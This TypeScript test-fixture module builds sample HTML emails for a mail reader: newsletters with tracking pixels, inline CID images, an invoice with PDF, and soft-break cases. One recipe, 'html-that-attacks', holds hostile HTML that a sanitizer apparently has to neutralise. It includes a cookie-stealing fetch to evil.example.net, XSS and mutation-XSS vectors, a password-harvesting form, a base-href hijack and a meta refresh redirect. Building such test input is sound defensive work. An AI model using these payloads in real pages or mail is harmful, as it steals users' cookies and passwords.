/**
 * HTML mail as senders make it: newsletters with tables, remote pictures and tracking pixels, pictures inside the
 * message (RFC 2387, RFC 2392), HTML alone, and HTML that tries what a reader must not let it do.
 */
import { file, html, letter, lines, multipart, text } from './compose.ts';
import type { Recipe } from './compose.ts';
import { gif, pdf, png } from './documents.ts';
import { encodedWords } from './encodings.ts';

const OFFERS = ['Alpine cheese', 'Rye bread', 'Pear juice', 'Walnut oil', 'Dried plums', 'Honey', 'Elderflower syrup', 'Mountain herbs'];

function newsletterHtml(): string {
  const rows = OFFERS.map(
    (offer, index) =>
      `<tr><td width="96"><img src="https://img.example.com/offers/${index}.jpg" width="96" height="96" alt="${offer}"></td>` +
      `<td style="font-family:Arial;background:url('https://img.example.com/paper.png')"><b>${offer}</b><br>` +
      `<a href="https://shop.example.com/o/${index}?utm_source=mail&amp;u=4711">Have a look</a></td><td align="right">${index + 3}.90&nbsp;&euro;</td></tr>`,
  );
  return lines(
    '<!DOCTYPE html><html><head><meta charset="utf-8"><title>Farm shop</title>',
    '<link rel="stylesheet" href="https://img.example.com/mail.css"><style>@import url(https://img.example.com/more.css); td { padding: 8px }</style></head>',
    '<body bgcolor="#f4f4f4"><center><table width="600" cellpadding="0" cellspacing="0" background="https://img.example.com/back.gif">',
    '<tr><td colspan="3"><h1>This week in the farm shop 🧀</h1></td></tr>',
    ...rows,
    '<tr><td colspan="3"><a href="https://shop.example.com/unsubscribe?u=4711">Unsubscribe</a></td></tr></table></center>',
    '<img src="https://track.example.com/open.gif?u=4711" width="1" height="1" alt=""></body></html>',
  );
}

const newsletter: Recipe = {
  name: 'newsletter-with-tables',
  make: (at) =>
    letter(
      {
        at,
        name: 'newsletter-with-tables',
        from: '"Farm Shop" <news@shop.example.com>',
        subject: encodedWords('This week in the farm shop 🧀', 'UTF-8', 'Q'),
        more: [
          'List-Unsubscribe: <https://shop.example.com/unsubscribe?u=4711>, <mailto:unsubscribe@shop.example.com?subject=4711>',
          'List-Unsubscribe-Post: List-Unsubscribe=One-Click',
          'Precedence: bulk',
        ],
      },
      multipart('alternative', [
        text(lines('This week in the farm shop', '', ...OFFERS.map((offer, index) => `* ${offer}: ${index + 3}.90 EUR`))),
        html(newsletterHtml()),
      ]),
    ),
};

const htmlOnly: Recipe = {
  name: 'html-only',
  make: (at) =>
    letter(
      { at, name: 'html-only', from: 'Ticket machine <tickets@rail.example.com>', subject: 'Your ticket' },
      html(
        lines(
          '<html><body><h2>Your ticket</h2><p>From <b>Bern</b> to <b>Z&uuml;rich&nbsp;HB</b>, 2nd class, 1 person.</p>',
          '<ul><li>Departure 10:02, platform 7</li><li>Arrival 10:58</li></ul><p>Have a good journey!</p></body></html>',
        ),
        { encoding: '7bit', charset: 'us-ascii' },
      ),
    ),
};

const softBreaks: Recipe = {
  name: 'html-with-soft-breaks',
  make: (at) =>
    letter(
      { at, name: 'html-with-soft-breaks', from: 'Bank <no-reply@bank.example.com>', subject: 'Your statement = ready' },
      multipart('alternative', [
        text(lines(`One line without a break: ${'money = time; '.repeat(40)}`, 'Trailing blanks:   ', 'Trailing tab:\t', '= =3D =20 =')),
        html(lines(`<p title="${'a=b&amp;'.repeat(60)}">${'Guthaben: 1’234.50 Fr. — '.repeat(30)}</p>`)),
      ]),
    ),
};

const inlineImages: Recipe = {
  name: 'inline-images',
  make: (at) => {
    const page = html(
      lines('<p>Here we are:</p><p><img src="cid:photo.1@example.com" alt="us"></p>', '<p>Yours <img src="cid:smile@example.com"></p>'),
    );
    const photo = file('holiday.png', 'image/png', png(48, 32, [40, 120, 220]), {
      disposition: 'inline',
      contentId: 'photo.1@example.com',
    });
    const smile = file('smile.gif', 'image/gif', gif(24, 24), { disposition: 'inline', contentId: 'smile@example.com' });
    const related = multipart('related', [page, photo, smile], { parameters: ';\r\n type="text/html"' });
    return letter(
      { at, name: 'inline-images', from: 'Ben <ben@example.com>', subject: 'Photos of our holiday' },
      multipart('alternative', [text(lines('Here we are: [photo]', 'Yours')), related]),
    );
  },
};

const invoice: Recipe = {
  name: 'invoice-with-logo-and-pdf',
  make: (at) => {
    const page = multipart('related', [
      html(lines('<table><tr><td><img src="cid:logo@bill.example.com"></td><td>Invoice 2231</td></tr></table>')),
      file(null, 'image/png', png(16, 16, [200, 30, 30]), { disposition: 'inline', contentId: 'logo@bill.example.com' }),
    ]);
    const body = multipart('alternative', [text(lines('Invoice 2231: 118.00 CHF, due in 30 days.')), page]);
    return letter(
      { at, name: 'invoice-with-logo-and-pdf', from: 'Billing <billing@bill.example.com>', subject: 'Invoice 2231' },
      multipart('mixed', [body, file('invoice-2231.pdf', 'application/pdf', pdf('Invoice 2231: 118.00 CHF'))]),
    );
  },
};

const hostile: Recipe = {
  name: 'html-that-attacks',
  make: (at) =>
    letter(
      { at, name: 'html-that-attacks', from: '"Your Bank" <phish@evil.example.net>', subject: 'Verify your account <b>now</b>' },
      html(
        lines(
          '<script>fetch("https://evil.example.net/?"+document.cookie)</script><p onclick="alert(1)">Click <a href="javascript:alert(1)">here</a></p>',
          '<img src=x onerror=alert(1)><svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
          '<iframe src="https://evil.example.net/"></iframe><form action="https://evil.example.net/"><input name="password"></form>',
          '<style>body{background:url(https://evil.example.net/t.gif)}</style><img srcset="https://evil.example.net/2x.png 2x" src="//evil.example.net/1x.png">',
          '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math><base href="https://evil.example.net/">',
          '<meta http-equiv="refresh" content="0;url=https://evil.example.net/"><p>The text that remains.</p>',
        ),
        { encoding: '7bit' },
      ),
    ),
};

export const webPages: readonly Recipe[] = [hostile, htmlOnly, softBreaks, invoice, newsletter, inlineImages];
